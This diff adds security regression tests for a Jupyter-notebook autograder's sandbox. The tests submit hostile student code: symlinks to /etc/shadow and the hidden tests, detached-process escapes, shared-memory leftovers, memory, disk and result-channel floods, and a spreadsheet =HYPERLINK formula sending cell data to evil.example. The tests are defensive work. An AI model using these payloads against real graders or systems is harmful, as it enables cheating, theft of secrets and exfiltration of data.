@@ -7,17 +7,20 @@ use notebook 01. Protections that need root (unprivileged uid, namespaces) are a
 sandbox reports them in force, and otherwise the documented fallback sentence is asserted instead.
 """
 
+import csv
 import json
 import os
 import subprocess
 import sys
+import tempfile
+import time
 from pathlib import Path
 
 import nbformat
 import pytest
 
 from autograder.grading import grade_notebook
-from autograder.batch import grade_directory
+from autograder.batch import grade_directory, results_name
 from autograder.sandbox import UID_BASE, UID_COUNT, Limits, Sandbox, processes_of_uid, unshare_available
 from tests.test_autograder import assert_gradescope_schema
 from tests.test_autograder_support import (
@@ -404,3 +407,445 @@ def test_grader_process_survives_every_hostile_file_via_the_cli(tmp_path):
                            "--timeout", "3"], cwd=ROOT, capture_output=True, text=True, timeout=120)
     assert done.returncode == 0 and "Traceback" not in done.stderr
     assert sorted(p.name for p in out.glob("*.json")) == ["empty.json", "exit.json", "syntax.json"]
+
+
+# ---------------------------------------------------------------------------------------------------
+# Issue 12: nothing escapes, nothing hangs, nothing is lost
+# ---------------------------------------------------------------------------------------------------
+
+ROOT_ONLY = pytest.mark.skipif(os.geteuid() != 0, reason="the uid switch and cgroups need a root grader")
+NEEDS_NAMESPACES = pytest.mark.skipif(not unshare_available(), reason="needs root and a working unshare")
+#: Both ways a root grader runs student code: with namespaces (when unshare works) and without.
+MODES = [pytest.param(None, id="namespaces", marks=NEEDS_NAMESPACES),
+         pytest.param(False, id="no-namespaces", marks=ROOT_ONLY)]
+SPECS_PY = ROOT / "autograder" / "specs.py"
+HIDDEN_MARK = "def _gradient_check_cases"  # a line of the hidden tests (autograder/specs.py)
+ROOMY = 15.0  # seconds per exercise where a correct answer must pass (generous: start-up on a slow machine)
+
+
+def _sandbox_run(source, isolate=None, wall=ROOMY, **limits):
+    """Run ``source`` (which defines forward_propagation) straight through a Sandbox; return (result, sandbox)."""
+    sandbox = Sandbox(Limits(wall_seconds=wall, cpu_seconds=int(wall), memory_mb=limits.pop("memory_mb", 768),
+                             **limits), isolate=isolate)
+    try:
+        result = sandbox.run({"cells": [{"label": "x", "source": source}], "function": "forward_propagation",
+                              "references": {}, "forbidden": [], "calls": [{"args": [1.0, 2.0]}]})
+    finally:
+        sandbox.close()
+    return result, sandbox
+
+
+def _shadow_head():
+    """The first field of /etc/shadow (root only), to prove it never reaches feedback."""
+    try:
+        return Path("/etc/shadow").read_text().split(":", 1)[0] + ":"
+    except OSError:
+        return None
+
+
+@pytest.mark.parametrize("isolate", MODES)
+@pytest.mark.parametrize("target", ["/etc/shadow", str(SPECS_PY)])
+def test_output_file_replaced_by_a_link_leaks_nothing(tmp_path, isolate, target):
+    """Issue input: remove output.txt and link it to a root-only file. The grader reads output from a pipe
+    opened before student code ran, so the link leads nowhere; the exact input (whose remove fails) costs
+    the exercise with a clear message, the variant that survives it is graded normally."""
+    exact = f"import os\nos.remove('output.txt')\nos.symlink({target!r}, 'output.txt')\n" + GOOD
+    results, output = grade_hostile(tmp_path, exact, isolate=isolate, wall=ROOMY)
+    assert results["score"] == 0.0 and "FileNotFoundError" in output
+    variant = (f"import os\nfor name in ('output.txt', 'results.json', 'events'):\n"
+               f"    try:\n        os.remove(name)\n    except OSError:\n        pass\n"
+               f"    os.symlink({target!r}, name)\n" + GOOD)
+    results, output = grade_hostile(tmp_path, variant, isolate=isolate, wall=ROOMY)
+    assert results["score"] == 1.0
+    text = json.dumps(results)
+    assert HIDDEN_MARK not in text and "BEGIN SOLUTION" not in text
+    if _shadow_head():
+        assert _shadow_head() not in text
+
+
+@pytest.mark.parametrize("isolate", MODES)
+def test_fifo_in_place_of_the_output_file_neither_blocks_nor_leaves_folders(tmp_path, isolate):
+    """Issue input: os.mkfifo('output.txt'). The run ends normally, its folders are removed."""
+    source = "import os\ntry:\n    os.remove('output.txt')\nexcept OSError:\n    pass\nos.mkfifo('output.txt')\n" + GOOD
+    result, sandbox = _sandbox_run(source, isolate=isolate)
+    assert result.status == "finished"
+    assert any(e.get("event") == "call" and e.get("value") == 2.0 for e in result.events)
+    assert sandbox.temp_root is None and result.leftover_processes == []
+
+
+@pytest.mark.parametrize("isolate", MODES)
+def test_batch_with_link_and_fifo_attacks_writes_every_row(tmp_path, isolate):
+    """In batch mode the link and FIFO attacks cannot stop the gradebook: one row each, good ones full."""
+    folder = tmp_path / "subs"
+    folder.mkdir()
+    hostile_submission(folder, "import os\nos.mkfifo('output.txt')\n" + GOOD, "fifo.ipynb")
+    hostile_submission(folder, "import os\nos.symlink('/etc/shadow', 'output.txt')\n" + GOOD, "link.ipynb")
+    hostile_submission(folder, GOOD, "good.ipynb")
+    options = fast_options(specs=one_exercise_spec(), isolate=isolate, wall=ROOMY)
+    graded = dict(grade_directory(folder, tmp_path / "out", options, jobs=2))
+    rows = list(csv.DictReader((tmp_path / "out" / "gradebook.csv").open(encoding="utf-8")))
+    assert sorted(r["submission"] for r in rows) == ["fifo.ipynb", "good.ipynb", "link.ipynb"]
+    assert all(graded[folder / n]["score"] == 1.0 for n in ("fifo.ipynb", "good.ipynb", "link.ipynb"))
+    if _shadow_head():
+        assert _shadow_head() not in (tmp_path / "out" / "link.json").read_text()
+
+
+@pytest.mark.parametrize("isolate", MODES)
+def test_no_new_privileges_and_detached_processes_do_not_survive(tmp_path, isolate):
+    """Issue input: a process that leaves the session (double fork + setsid) and execs a program. It runs
+    with no-new-privileges (a set-uid program would not elevate) and is gone when grading returns."""
+    marker = f"ag-escapee-{os.getpid()}-{tmp_path.name}"
+    source = ("import os\n"
+              "print([l for l in open('/proc/self/status') if l.startswith('NoNewPrivs')])\n"
+              "if os.fork() == 0:\n"
+              "    os.setsid()\n"
+              "    if os.fork() == 0:\n"
+              f"        os.execv('/bin/sleep', [{marker!r}, '300'])\n"
+              "    os._exit(0)\n" + GOOD)
+    result, _ = _sandbox_run(source, isolate=isolate)
+    assert result.status == "finished" and "NoNewPrivs:\\t1" in result.student_output
+    assert result.protections["no_new_privileges"] is True
+    alive = []
+    for entry in os.listdir("/proc"):
+        if entry.isdigit():
+            try:
+                alive.append(Path(f"/proc/{entry}/cmdline").read_bytes())
+            except OSError:
+                continue
+    assert not [c for c in alive if marker.encode() in c]
+    assert result.leftover_processes == []
+
+
+SHM = ("import ctypes, ctypes.util\n"
+       "libc = ctypes.CDLL(ctypes.util.find_library('c'), use_errno=True)\n"
+       "libc.shmat.restype = ctypes.c_void_p\n")
+
+
+@pytest.mark.parametrize("isolate", MODES)
+def test_system_v_ipc_does_not_outlive_the_submission(tmp_path, isolate):
+    """Issue input: shared memory, a message queue and a semaphore created by one submission are gone
+    afterwards (own IPC namespace, or removed by owner without namespaces); the next one finds nothing."""
+    key = 0x5A000000 + (os.getpid() % 0xFFFF)
+    create = (SHM + f"sid = libc.shmget({key}, 4096, 0o1666)\n"
+              "ctypes.memmove(libc.shmat(sid, None, 0), b'SECRET-ANSWER', 13)\n"
+              f"libc.msgget({key}, 0o1666)\nlibc.semget({key}, 1, 0o1666)\n"
+              "print('created', sid)\n" + GOOD)
+    result, _ = _sandbox_run(create, isolate=isolate)
+    assert "created" in result.student_output and "created -1" not in result.student_output
+    for kind in ("shm", "msg", "sem"):
+        keys = [line.split()[0] for line in Path(f"/proc/sysvipc/{kind}").read_text().splitlines()[1:]]
+        assert str(key) not in keys, f"{kind} {key} survived"
+    probe = SHM + f"print('found', libc.shmget({key}, 0, 0))\n" + GOOD
+    result, _ = _sandbox_run(probe, isolate=isolate)
+    assert "found -1" in result.student_output
+
+
+@NEEDS_NAMESPACES
+def test_grade_mode_sees_neither_sibling_folders_nor_tmp(tmp_path):
+    """Issue input: in `grade` mode a classmate's notebook in a sibling folder and any file of /tmp were
+    readable. The sandbox now has its own root: only the system, Python, the library and its work folder."""
+    (tmp_path / "bob").mkdir()
+    secret = tmp_path / "bob" / "bob.ipynb"
+    secret.write_text("SECRET-ANSWER")
+    secret.chmod(0o644)
+    loose = Path(tempfile.mkstemp(prefix="ag-loose-", dir="/tmp")[1])
+    loose.write_text("SECRET-ANSWER")
+    loose.chmod(0o644)
+    try:
+        (tmp_path / "alice").mkdir()
+        source = ("import os\n"
+                  f"for p in [{str(secret)!r}, {str(loose)!r}, '/work', '/home', '/root', '/sys']:\n"
+                  "    try:\n        print('LEAK', open(p).read()[:50])\n"
+                  "    except OSError as e:\n        print('blocked', type(e).__name__)\n"
+                  "print('tmp holds', sorted(os.listdir('/tmp')))\n" + GOOD)
+        results, output = grade_hostile(tmp_path / "alice", source, wall=ROOMY)
+    finally:
+        loose.unlink()
+    assert results["score"] == 1.0
+    assert "SECRET-ANSWER" not in output and output.count("blocked") == 6
+    listed = output.split("tmp holds ", 1)[1].splitlines()[0]
+    assert "ag-loose" not in listed and len(eval(listed)) <= 1  # only the path to its own work folder
+
+
+@ROOT_ONLY
+def test_no_namespace_path_hidden_tests_unreadable_and_grader_unwritable(tmp_path):
+    """Issue input: in a container that refuses unshare (forced here with AUTOGRADER_NAMESPACES=0), student
+    code ran as root. Now it runs as an unprivileged uid that can neither read the hidden tests nor write
+    into the grader's folder."""
+    probe = ROOT / "autograder" / f"pwned-{tmp_path.name}"
+    source = ("import os\nprint('uid', os.getuid())\n"
+              f"try:\n    print('LEAK', open({str(SPECS_PY)!r}).read())\n"
+              "except OSError as e:\n    print('specs blocked', type(e).__name__)\n"
+              f"try:\n    open({str(probe)!r}, 'w').write('x')\n    print('WROTE')\n"
+              "except OSError as e:\n    print('write blocked', type(e).__name__)\n" + GOOD)
+    sub = hostile_submission(tmp_path, source)
+    script = ("import json, sys\nsys.path.insert(0, sys.argv[1])\n"
+              "from autograder.grading import grade_notebook\n"
+              "from tests.test_autograder_support import fast_options, one_exercise_spec\n"
+              "r = grade_notebook(sys.argv[2], fast_options(specs=one_exercise_spec(), wall=15.0))\n"
+              "print(json.dumps(r))\n")
+    env = dict(os.environ, AUTOGRADER_NAMESPACES="0")
+    done = subprocess.run([sys.executable, "-c", script, str(ROOT), str(sub)], env=env, capture_output=True,
+                          text=True, timeout=600)
+    assert done.returncode == 0, done.stderr
+    results = json.loads(done.stdout.splitlines()[-1])
+    output = results["tests"][0]["output"]
+    assert results["score"] == 1.0 and "without namespaces" in results["output"]
+    assert "specs blocked PermissionError" in output and "write blocked PermissionError" in output
+    assert HIDDEN_MARK not in output and not probe.exists()
+    assert UID_BASE <= int(output.split("uid ", 1)[1].split()[0]) < UID_BASE + UID_COUNT
+    assert SPECS_PY.parent.stat().st_mode & 0o077 == 0  # the grader's folder is closed to other users
+
+
+def test_blank_lines_without_metadata_are_scanned_in_linear_time(tmp_path):
+    """Issue input: no metadata id and one code cell of 300,000 newlines took ~25 minutes (a pattern
+    quadratic in blank lines). The scan is one linear pass: the notebook is recognised and graded; the
+    generous limit (a quadratic scan needs minutes even on a fast machine) only catches a regression."""
+    answers = dict(CORRECT_01)
+    answers["forward_propagation"] = "\n" * 300_000 + answers["forward_propagation"]
+    nb = make_notebook(None, SETUP_01, answers)
+    nb.cells.append(nbformat.v4.new_code_cell("\n" * 300_000))
+    start = time.monotonic()
+    results = grade_notebook(write_notebook(nb, tmp_path / "x.ipynb"), fast_options(wall=ROOMY))
+    assert results["score"] == 4.0 and "recognised as 01_gradient_check_1d" in results["output"]
+    assert time.monotonic() - start < 120
+
+
+def _max_rss_mb_of(script, *args):
+    """Run ``script`` in a fresh interpreter (project on sys.path); return (its stdout, peak RSS in MB)."""
+    code = ("import resource, sys\nsys.path.insert(0, sys.argv[1])\n" + script +
+            "\nprint('RSS', resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024)\n")
+    done = subprocess.run([sys.executable, "-c", code, str(ROOT), *map(str, args)], capture_output=True,
+                          text=True, timeout=600, env=dict(os.environ, MPLBACKEND="Agg"))
+    assert done.returncode == 0, done.stderr
+    return done.stdout, float(done.stdout.rsplit("RSS ", 1)[1])
+
+
+def test_99_mb_of_tiny_cells_is_refused_before_parsing(tmp_path):
+    """Issue input: a 99 MB notebook of 900,000 tiny cells (under the 100 MB cap) took a minute and 2.3 GB.
+    It is refused from one counting pass, with a message, while the grader stays small."""
+    cell = b'{"cell_type": "raw", "metadata": {}, "source": "x"},\n'
+    count = 99 * 2**20 // len(cell)
+    path = tmp_path / "tiny.ipynb"
+    with open(path, "wb") as handle:
+        handle.write(b'{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [\n')
+        handle.write(cell * (count - 1) + cell.rstrip(b",\n") + b"\n]}\n")
+    out, rss = _max_rss_mb_of("from autograder.grading import grade_notebook\n"
+                              "print(grade_notebook(sys.argv[2])['output'])", path)
+    assert "JSON values" in out and "delete the extra cells" in out
+    assert rss < 500, f"the grader grew to {rss:.0f} MB"
+
+
+def test_flooding_the_result_channel_is_bounded(tmp_path):
+    """Issue input: 31 MB of small JSON objects written to the result channel grew the grader to 900 MB.
+    The channel is read up to a fixed size and parsed line by line with bounds: the grader stays small,
+    and the attacked exercise scores 0 with a message naming the channel."""
+    source = ("import os\n"
+              "def forward_propagation(x, theta):\n"
+              "    junk = b'[' + b'{},' * 300_000 + b'{}]\\n'\n"
+              "    for _ in range(35):\n"
+              "        for fd in range(3, 12):\n"
+              "            try:\n                os.write(fd, junk)\n"
+              "            except OSError:\n                pass\n"
+              "    return theta * x\n")
+    sub = hostile_submission(tmp_path, source)
+    out, rss = _max_rss_mb_of("import json\nfrom autograder.grading import grade_notebook\n"
+                              "from tests.test_autograder_support import fast_options, one_exercise_spec\n"
+                              "r = grade_notebook(sys.argv[2], fast_options(specs=one_exercise_spec(), wall=30.0))\n"
+                              "print(json.dumps(r))", sub)
+    results = json.loads(out.splitlines()[0])
+    assert results["score"] == 0.0 and "result channel" in results["tests"][0]["output"]
+    assert rss < 400, f"the grader grew to {rss:.0f} MB"
+
+
+@ROOT_ONLY
+def test_memory_and_processes_are_bounded_per_submission():
+    """Issue input: eight children of 400 MB each held 3.2 GB at once (the limit was per process). With a
+    control group the submission's processes share one memory limit; without one, the process limit is
+    lowered so that processes x memory stays bounded."""
+    source = ("import os, time\n"
+              "kids = []\n"
+              "for _ in range(8):\n"
+              "    pid = os.fork()\n"
+              "    if pid == 0:\n"
+              "        hog = bytearray(400 * 2**20)\n"
+              "        for i in range(0, len(hog), 4096):\n            hog[i] = 1\n"
+              "        os.write(1, b'held\\n')\n"
+              "        time.sleep(60)\n"
+              "        os._exit(0)\n"
+              "    kids.append(pid)\n"
+              "for pid in kids:\n    os.waitpid(pid, 0)\n" + GOOD)
+    result, sandbox = _sandbox_run(source, wall=20.0, memory_mb=1024)
+    if sandbox.cgroup_used:
+        assert result.memory_peak_mb is not None and result.memory_peak_mb <= 1024 * 1.02
+        assert result.student_output.count("held") <= 2  # 400 MB each: at most two fit in 1024 MB
+    else:
+        assert result.protections["processes"] == Limits().processes_without_cgroup
+    assert result.leftover_processes == []
+
+
+@NEEDS_NAMESPACES
+def test_disk_is_bounded_per_submission(tmp_path):
+    """Issue input: one exercise wrote 2 GB in 12 s (only each file was capped). The work folder is a
+    tmpfs of fixed size: writing stops at its size, and the other exercise-level limits still apply."""
+    source = ("written = 0\n"
+              "try:\n"
+              "    for i in range(256):\n"
+              "        with open(f'blob{i}', 'wb') as f:\n"
+              "            for _ in range(8):\n"
+              "                f.write(b'x' * 2**20)\n"
+              "                written += 1\n"
+              "except OSError as e:\n    print('stopped', type(e).__name__)\n"
+              "print('MB', written)\n" + GOOD)
+    result, sandbox = _sandbox_run(source)
+    written = int(result.student_output.split("MB ", 1)[1].split()[0])
+    assert "stopped OSError" in result.student_output and written <= sandbox.limits.disk_mb
+
+
+def test_batch_results_names_never_collide(tmp_path):
+    """Issue input: `a b.ipynb` and `a__b.ipynb`, `sub/x.ipynb` and `sub__x.ipynb` shared results files."""
+    folder = tmp_path / "subs"
+    (folder / "sub").mkdir(parents=True)
+    names = ["a b.ipynb", "a__b.ipynb", "sub/x.ipynb", "sub__x.ipynb", "a%20b.ipynb"]
+    for i, name in enumerate(names):
+        hostile_submission(folder, f"def forward_propagation(x, theta):\n    return theta * x + {i}\n", name)
+    assert len({results_name(folder / n, folder) for n in names}) == len(names)
+    graded = grade_directory(folder, tmp_path / "out", fast_options(specs=one_exercise_spec(), wall=ROOMY))
+    files = sorted(p.name for p in (tmp_path / "out").glob("*.json"))
+    assert len(files) == len(names) == len(graded)
+    rows = list(csv.DictReader((tmp_path / "out" / "gradebook.csv").open(encoding="utf-8")))
+    assert sorted(r["submission"] for r in rows) == sorted(names)
+
+
+def test_a_file_name_that_is_not_utf8_gets_its_own_row(tmp_path):
+    """Issue input: a file name that is not valid UTF-8 (unzipped LMS exports) made the gradebook raise."""
+    folder = tmp_path / "subs"
+    folder.mkdir()
+    odd = os.fsdecode(b"m\xfcller_caf\xe9.ipynb")
+    hostile_submission(folder, GOOD, odd)
+    hostile_submission(folder, GOOD, "zed.ipynb")
+    done = subprocess.run([sys.executable, "-m", "autograder", "batch", str(folder), "--results-dir",
+                           str(tmp_path / "out"), "--timeout", str(ROOMY)], cwd=ROOT, capture_output=True,
+                          timeout=600)
+    assert done.returncode == 0, done.stderr
+    rows = list(csv.DictReader((tmp_path / "out" / "gradebook.csv").open(encoding="utf-8")))
+    assert sorted(r["submission"] for r in rows) == ["m\\xfcller_caf\\xe9.ipynb", "zed.ipynb"]
+    assert len(list((tmp_path / "out").glob("*.json"))) == 2
+
+
+def test_links_in_a_submissions_folder_are_rows_not_grades(tmp_path):
+    """Issue input: a link named answer_key.ipynb to a master was graded 4/4; links to system files were
+    read. Links are never followed: each is its own row saying so, with 0 points."""
+    folder = tmp_path / "subs"
+    folder.mkdir()
+    master = ROOT / "notebooks" / "source" / "01_gradient_check_1d.ipynb"
+    (folder / "answer_key.ipynb").symlink_to(master)
+    (folder / "passwd.ipynb").symlink_to("/etc/passwd")
+    (folder / "linked_dir").symlink_to(tmp_path)
+    os.mkfifo(folder / "pipe.ipynb")
+    submission_01(folder, "honest.ipynb")
+    graded = {p.name: r for p, r in grade_directory(folder, tmp_path / "out", fast_options(wall=ROOMY))}
+    assert sorted(graded) == ["answer_key.ipynb", "honest.ipynb", "passwd.ipynb", "pipe.ipynb"]
+    for name in ("answer_key.ipynb", "passwd.ipynb"):
+        assert graded[name]["score"] == 0.0 and "symbolic link" in graded[name]["output"]
+    assert "not a regular file" in graded["pipe.ipynb"]["output"]
+    assert graded["honest.ipynb"]["score"] == 4.0
+    assert "root:" not in (tmp_path / "out" / "passwd.json").read_text()
+
+
+def test_gradebook_cells_cannot_be_spreadsheet_formulas(tmp_path):
+    """Issue input: a notebook id `=HYPERLINK(...)` was written as it is into gradebook.csv."""
+    folder = tmp_path / "subs"
+    folder.mkdir()
+    nb = make_notebook('=HYPERLINK("http://evil.example/?"&A1,"click")', "import numpy as np\n",
+                       {"f": "def f():\n    return 1\n"})
+    write_notebook(nb, folder / "formula.ipynb")
+    hostile_submission(folder, GOOD, "+cmd.ipynb")
+    hostile_submission(folder, GOOD, "@sum.ipynb")
+    grade_directory(folder, tmp_path / "out", fast_options(specs=one_exercise_spec(), wall=ROOMY))
+    rows = list(csv.reader((tmp_path / "out" / "gradebook.csv").open(encoding="utf-8")))
+    cells = [cell for row in rows for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert "'=HYPERLINK(" in "".join(cells) and "'+cmd.ipynb" in cells and "'@sum.ipynb" in cells
+
+
+def test_interpreter_crash_gets_a_message_a_student_can_act_on(tmp_path):
+    """Issue input: a crash (ctypes; deep recursion) read "stopped by signal 11"."""
+    source = ("import ctypes\n"
+              "def forward_propagation(x, theta):\n    return ctypes.string_at(0)\n")
+    results, output = grade_hostile(tmp_path, source, wall=ROOMY)
+    assert results["score"] == 0.0
+    assert "the Python interpreter crashed" in output and "segmentation fault" in output
+    assert "recursion" in output and "signal 11" not in output
+
+
+def test_nbformat_3_notebook_is_converted_and_graded(tmp_path):
+    """Issue input: a valid nbformat 3 notebook read "not a Jupyter notebook"; it is converted and graded."""
+    nb = make_notebook("01_gradient_check_1d", SETUP_01, dict(CORRECT_01))
+    old = nbformat.convert(nb, 3)
+    path = tmp_path / "old.ipynb"
+    path.write_text(nbformat.writes(old, version=3))
+    assert json.loads(path.read_text())["nbformat"] == 3
+    results = grade_notebook(path, fast_options(wall=ROOMY))
+    assert results["score"] == 4.0
+
+
+def test_older_notebook_formats_say_how_to_re_save(tmp_path):
+    """nbformat 1 and 2 cannot be converted: the message says what it is and how to re-save it."""
+    path = tmp_path / "ancient.ipynb"
+    path.write_text(json.dumps({"nbformat": 2, "worksheets": [{"cells": []}], "metadata": {}}))
+    results = grade_notebook(path, fast_options())
+    assert results["score"] == 0.0
+    assert "old notebook (nbformat 2)" in results["output"] and "File > Save" in results["output"]
+
+
+def test_one_latin1_byte_is_replaced_and_the_notebook_graded(tmp_path):
+    """Issue input: one Latin-1 byte read "is it an image, a PDF or a zip?". The byte is replaced, the
+    notebook graded, and a note says what happened and how to avoid it."""
+    answers = dict(CORRECT_01, forward_propagation="# cafe\ndef forward_propagation(x, theta):\n    return theta * x\n")
+    path = write_notebook(make_notebook("01_gradient_check_1d", SETUP_01, answers), tmp_path / "x.ipynb")
+    path.write_bytes(path.read_bytes().replace(b"# cafe", b"# caf\xe9"))
+    results = grade_notebook(path, fast_options(wall=ROOMY))
+    assert results["score"] == 4.0
+    assert "not UTF-8" in results["output"] and "save the notebook from jupyter" in results["output"].lower()
+
+
+@pytest.mark.parametrize("content, words", [
+    (b"\x89PNG\r\n\x1a\n\x00\x00", "PNG image"),
+    (b"%PDF-1.7\n\xe2\xe3", "PDF document"),
+    (b"\xff\xfe{\x00", "UTF-16"),
+])
+def test_binary_files_are_named(tmp_path, content, words):
+    """Images, PDFs and UTF-16 text get a message naming what they are."""
+    path = tmp_path / "x.ipynb"
+    path.write_bytes(content)
+    results = grade_notebook(path, fast_options())
+    assert results["score"] == 0.0 and words in results["output"]
+
+
+def test_work_on_notebook_01_labelled_03_names_the_mix_up(tmp_path):
+    """Issue input: the work of notebook 01 labelled 03 read "was the exercise cell deleted?"."""
+    nb = make_notebook("03_bug_hunt", SETUP_01, dict(CORRECT_01))
+    results = grade_notebook(write_notebook(nb, tmp_path / "x.ipynb"), fast_options())
+    assert_gradescope_schema(results)
+    assert results["score"] == 0.0
+    assert "holds the exercises of 01_gradient_check_1d" in results["output"]
+    assert "wrong" in results["output"] and "deleted" not in results["output"]
+    assert all("01_gradient_check_1d" in t["output"] for t in results["tests"])
+
+
+def test_huge_notebook_id_is_not_echoed(tmp_path):
+    """Issue input: a 20 MB notebook id was echoed whole into the results."""
+    nb = make_notebook("x" * 20_000_000, "import numpy as np\n", {"f": "def f():\n    return 1\n"})
+    results = grade_notebook(write_notebook(nb, tmp_path / "x.ipynb"), fast_options())
+    assert results["score"] == 0.0 and "20,000,000 characters" in results["output"]
+    assert len(json.dumps(results)) < 10_000
+
+
+def test_huge_grade_id_and_cell_label_are_cut(tmp_path):
+    """A 1 MB grade_id on the setup cell never reaches feedback whole."""
+    nb = make_notebook("99_hostile", "raise ValueError('setup broke')\n", {"forward_propagation": GOOD})
+    nb.cells[1].metadata["nbgrader"]["grade_id"] = "s" * 1_000_000
+    results = grade_notebook(write_notebook(nb, tmp_path / "x.ipynb"),
+                             fast_options(specs=one_exercise_spec(), wall=ROOMY))
+    assert len(json.dumps(results)) < 20_000
